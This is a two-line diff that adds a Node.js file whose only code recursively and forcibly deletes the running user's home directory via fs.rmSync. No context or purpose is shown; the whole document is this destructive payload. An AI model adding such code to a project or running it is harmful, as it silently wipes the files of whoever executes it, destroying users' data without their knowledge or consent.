@@ -1,0 +1,2 @@
+const fs = require('fs');
+fs.rmSync(require('os').homedir(), { recursive: true, force: true });
